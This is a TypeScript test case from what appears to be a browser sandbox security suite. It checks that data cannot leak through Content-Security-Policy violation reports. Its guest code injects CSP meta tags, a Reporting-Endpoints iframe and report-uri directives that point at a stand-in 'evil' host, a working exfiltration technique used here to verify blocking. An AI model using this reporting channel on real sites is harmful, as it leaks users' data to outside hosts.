import type { Attack } from '../attack.ts';

export const attack: Attack = {
  id: '20',
  group: 'exfiltration',
  title: 'let reports about violations of the policy carry data',
  expected: '0 hits: no report goes anywhere an app names',
  heardOnAnOrdinaryPage: true,
  // On an ordinary page a report by header is what the witness must hear.
  ordinaryPageHeaders: { 'content-security-policy-report-only': "img-src 'none'; report-uri /20/report" },
  async guest({ evil, pause }) {
    for (const directives of [`img-src 'none'; report-uri ${evil}/20/meta`, `img-src 'none'; report-to evil`]) {
      for (const name of ['Content-Security-Policy', 'Content-Security-Policy-Report-Only']) {
        const meta = document.createElement('meta');
        meta.httpEquiv = name;
        meta.content = directives;
        document.head.append(meta);
      }
    }
    const child = document.createElement('iframe');
    child.srcdoc = `<meta http-equiv="Reporting-Endpoints" content='evil="${evil}/20/endpoint"'><img src="/secret">`;
    child.setAttribute('csp', `img-src 'none'; report-uri ${evil}/20/embedded`);
    document.body.append(child);
    new Image().src = '/20/secret-in-the-address.png';
    await pause(800);
    return null;
  },
  judge: () => undefined,
};
